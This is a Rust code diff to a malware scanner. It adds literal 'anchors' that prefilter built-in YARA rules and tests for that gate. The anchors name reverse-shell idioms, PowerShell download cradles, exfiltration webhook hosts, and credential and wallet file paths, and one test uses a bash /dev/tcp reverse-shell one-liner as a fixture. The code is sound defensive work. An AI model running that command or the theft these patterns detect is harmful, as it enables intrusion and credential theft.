@@ -42,6 +42,203 @@ const BUILTIN_SOURCES: &[(&str, &str)] = &[
     ),
 ];
 
+/// Out-of-band testing hosts, request bins and webhooks that two rules name.
+const OUT_OF_BAND_HOSTS: &[&str] = &[
+    "oast.fun",
+    "oast.live",
+    "oast.me",
+    "oast.pro",
+    "oast.site",
+    "oast.online",
+    "interact.fun",
+    "interact.live",
+    "interact.me",
+    "interact.pro",
+    "interact.site",
+    "interact.online",
+    "burpcollaborator.net",
+    "oastify.com",
+    "canarytokens.com",
+    "webhook.site",
+    "discord.com/api/webhooks/",
+    "discordapp.com/api/webhooks/",
+    "api.telegram.org/bot",
+];
+
+/// For each built-in rule, literals one of which every match of the rule contains,
+/// compared without regard to ASCII case; `{ws}` stands for each of the six bytes
+/// YARA's `\s` matches. A file holding none of them cannot match a built-in rule, and
+/// skips YARA's pattern search: that search costs about as much per byte as parsing,
+/// and four bytes in five of the top packages are in files without any anchor.
+///
+/// Reading a rule's condition gives its anchors: the literals of one pattern (or of one
+/// group of patterns) that every way of satisfying the condition needs. A test checks
+/// that every built-in rule has an entry and that its fixtures pass the gate; the
+/// evaluation's reports are identical with and without it.
+const BUILTIN_ANCHORS: &[(&str, &[&[&str]])] = &[
+    (
+        "dsca_reverse_shell_one_liner",
+        &[&[
+            "/dev/tcp/",
+            "/dev/udp/",
+            // `$nc`: `-e\s+/bin/`
+            "{ws}/bin/",
+            "mkfifo{ws}",
+            "pty.spawn(",
+            "socket(S,",
+            "fsockopen(",
+            // `$powershell and $psloop`
+            "System.Net.Sockets.TCPClient(",
+        ]],
+    ),
+    (
+        "dsca_powershell_download_cradle",
+        &[&[
+            // `$iex1 and $dl1`, or `$dl2`
+            ".DownloadString(",
+            "Invoke-WebRequest",
+            "Invoke-RestMethod",
+            "iwr{ws}",
+            "irm{ws}",
+            // `$ps`, which the other two branches need
+            "powershell{ws}",
+            "powershell\"",
+            "powershell'",
+            "powershell.exe",
+        ]],
+    ),
+    ("dsca_cryptominer", &[&["stratum+"]]),
+    (
+        "dsca_embedded_executable_base64",
+        &[&[
+            "TVqQAAMAAAAEAAAA",
+            "f0VMRgIBAQAAAAAAAAAAA",
+            "f0VMRgEBAQAAAAAAAAAAA",
+        ]],
+    ),
+    ("dsca_ssh_authorized_keys_backdoor", &[&["authorized_keys"]]),
+    (
+        "dsca_env_dump_to_webhook",
+        &[
+            OUT_OF_BAND_HOSTS,
+            &[
+                ".m.pipedream.net",
+                "requestbin",
+                ".ngrok.",
+                ".ngrok-free.",
+                "hookbin.com",
+                "beeceptor.com",
+            ],
+        ],
+    ),
+    (
+        "dsca_host_recon_to_oob_host",
+        &[
+            OUT_OF_BAND_HOSTS,
+            &["dnslog.cn", "ceye.io", "pipedream.net"],
+        ],
+    ),
+    ("dsca_npm_token_worm", &[&["maintainer:"]]),
+    ("dsca_ci_secrets_dump", &[&[".github/workflows"]]),
+    ("dsca_javascript_obfuscator_runtime", &[&["_0x"]]),
+    (
+        "dsca_esoteric_encoder",
+        &[&[
+            "$=~[];$={___:++$,",
+            "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻",
+            // Both of `$jsfuck`'s openings.
+            "(![]+[])[+",
+        ]],
+    ),
+    // `all of ($store*)`
+    ("dsca_discord_token_grabber", &[&["leveldb"]]),
+    // `all of ($key*)`
+    ("dsca_browser_credential_stealer", &[&["encrypted_key"]]),
+    (
+        // Every branch of the condition needs one of `$dir*`.
+        "dsca_crypto_wallet_stealer",
+        &[&[
+            "Local Extension Settings",
+            "exodus.wallet",
+            "Electrum/wallets",
+            "Electrum\\\\wallets",
+            "Ethereum/keystore",
+            "Ethereum\\\\keystore",
+            "com.liberty.jaxx",
+            "atomic/Local Storage",
+            "Coinomi",
+            "Guarda/Local Storage",
+            ".config/solana/id.json",
+            "wallet.dat",
+        ]],
+    ),
+    (
+        // `5 of them`: any five of the thirteen include one of these nine.
+        "dsca_credential_file_sweep",
+        &[&[
+            ".ssh/id_rsa",
+            ".aws/credentials",
+            ".git-credentials",
+            ".config/gh/hosts.yml",
+            ".bash_history",
+            ".config/gcloud/credentials.db",
+            ".azure/accessTokens.json",
+            ".pypirc",
+            ".ssh/id_ed25519",
+        ]],
+    ),
+    (
+        "dsca_discord_client_injection",
+        &[&["discord_desktop_core"]],
+    ),
+    (
+        // `$telegram2`, which both branches need
+        "dsca_messenger_session_stealer",
+        &[&["\"tdata", "'tdata", "/tdata", "\\tdata"]],
+    ),
+    (
+        "dsca_macos_keychain_or_password_phish",
+        &[&[
+            "security dump-keychain",
+            "login.keychain-db",
+            "hidden answer",
+        ]],
+    ),
+    (
+        // `2 of ($addr*)`: three of the five shapes hold `HJ-NP-Z`; the other two
+        // together hold `$addr2`.
+        "dsca_crypto_clipper",
+        &[&["HJ-NP-Z", "0x[a-fA-F0-9]{40}"]],
+    ),
+];
+
+/// The bytes YARA's `\s` matches.
+const YARA_WHITESPACE: [&str; 6] = [" ", "\t", "\n", "\r", "\x0b", "\x0c"];
+
+/// The gate of the built-in rules: one automaton over every anchor.
+fn builtin_gate() -> aho_corasick::AhoCorasick {
+    let mut literals: Vec<String> = Vec::new();
+    for (_, groups) in BUILTIN_ANCHORS {
+        for anchor in groups.iter().flat_map(|group| group.iter()) {
+            if anchor.contains("{ws}") {
+                literals.extend(
+                    YARA_WHITESPACE
+                        .iter()
+                        .map(|space| anchor.replace("{ws}", space)),
+                );
+            } else {
+                literals.push(anchor.to_string());
+            }
+        }
+    }
+    aho_corasick::AhoCorasick::builder()
+        .ascii_case_insensitive(true)
+        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
+        .build(&literals)
+        // The literals are constants a test builds: a failure is a bug in dsca.
+        .unwrap_or_else(|err| panic!("the built-in YARA rules' anchors: {err}"))
+}
+
 /// Bytes of one file the rules see (the archive limits bound files already).
 pub const MAX_SCANNED_FILE_BYTES: usize = 32 * 1024 * 1024;
 /// A rule set that takes longer than this on one file gives up on that file.
@@ -59,6 +256,9 @@ const MAX_RULE_FILES: usize = 10_000;
 /// A compiled rule set: the built-in rules, plus the user's when asked for.
 pub struct YaraRules {
     rules: yara_x::Rules,
+    /// Files without any anchor skip the scan; `None` when the user's rules are in the
+    /// set (their conditions are not read).
+    gate: Option<aho_corasick::AhoCorasick>,
     /// The user's rule files, by namespace (`user0`, `user1`, ...).
     user_files: Vec<String>,
 }
@@ -212,6 +412,7 @@ impl YaraRules {
             .max_scan_size(MAX_SCANNED_FILE_BYTES);
         FileScanner {
             scanner,
+            gate: self.gate.as_ref(),
             user_files: &self.user_files,
         }
     }
@@ -256,6 +457,7 @@ fn compile(user_sources: &[(String, String)]) -> Result<YaraRules, YaraError> {
     }
     Ok(YaraRules {
         rules: compiler.build(),
+        gate: user_sources.is_empty().then(builtin_gate),
         user_files: user_sources
             .iter()
             .map(|(origin, _)| origin.clone())
@@ -302,6 +504,7 @@ fn one_line(text: &str) -> String {
 /// One thread's scanner.
 pub(crate) struct FileScanner<'r> {
     scanner: yara_x::Scanner<'r>,
+    gate: Option<&'r aho_corasick::AhoCorasick>,
     user_files: &'r [String],
 }
 
@@ -333,6 +536,10 @@ impl FileScanner<'_> {
                 .cloned()
                 .unwrap_or_else(|| "built-in".to_string())
         };
+        let scanned = &data[..data.len().min(MAX_SCANNED_FILE_BYTES)];
+        if self.gate.is_some_and(|gate| !gate.is_match(scanned)) {
+            return Ok(Vec::new());
+        }
         let results = self.scanner.scan(data).map_err(|error| match error {
             yara_x::ScanError::Timeout => format!(
                 "YARA stopped after {} s (timeout): its rules saw only part of this file",
@@ -340,7 +547,6 @@ impl FileScanner<'_> {
             ),
             other => format!("YARA could not scan this file ({other})"),
         })?;
-        let scanned = &data[..data.len().min(MAX_SCANNED_FILE_BYTES)];
         Ok(results
             .matching_rules()
             .map(|rule| {
@@ -512,6 +718,54 @@ mod tests {
     #[test]
     fn builtin_rules_compile() {
         assert!(YaraRules::builtin().len() >= 10);
+    }
+
+    #[test]
+    fn every_builtin_rule_has_anchors_and_no_other_rule_does() {
+        let mut compiled: Vec<&str> = YaraRules::builtin()
+            .rules
+            .iter()
+            .map(|rule| rule.identifier())
+            .collect();
+        let mut anchored: Vec<&str> = BUILTIN_ANCHORS.iter().map(|(rule, _)| *rule).collect();
+        compiled.sort_unstable();
+        anchored.sort_unstable();
+        assert_eq!(
+            compiled, anchored,
+            "each built-in rule needs its anchors in BUILTIN_ANCHORS"
+        );
+        assert!(
+            BUILTIN_ANCHORS
+                .iter()
+                .flat_map(|(_, groups)| groups.iter().flat_map(|group| group.iter()))
+                .all(|anchor| anchor.len() >= 3)
+        );
+    }
+
+    #[test]
+    fn the_gate_lets_through_anchors_in_any_case_and_any_whitespace() {
+        let rules = YaraRules::builtin();
+        let mut scanner = rules.scanner();
+        let gate = scanner.gate.expect("the built-in rules have a gate");
+        assert!(gate.is_match(b"x = 'IRM\thttps://x.example'"));
+        assert!(gate.is_match(b"PowerShell.EXE -c"));
+        assert!(!gate.is_match(b"function confirm(){ return '/bin/sh'; }"));
+        // A reverse shell behind the gate is still found by YARA.
+        let hits = scanner
+            .scan("a.sh", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
+            .unwrap();
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert_eq!(hits[0].rule, "dsca_reverse_shell_one_liner");
+        // With the user's rules in the set there is no gate.
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("mine.yar"),
+            "rule mine { strings: $a = \"zzz\" condition: $a }",
+        )
+        .unwrap();
+        let user = YaraRules::with_user_rules(dir.path()).unwrap();
+        assert!(user.scanner().gate.is_none());
+        assert_eq!(user.scanner().scan("a.txt", b"zzz").unwrap().len(), 1);
     }
 
     #[test]
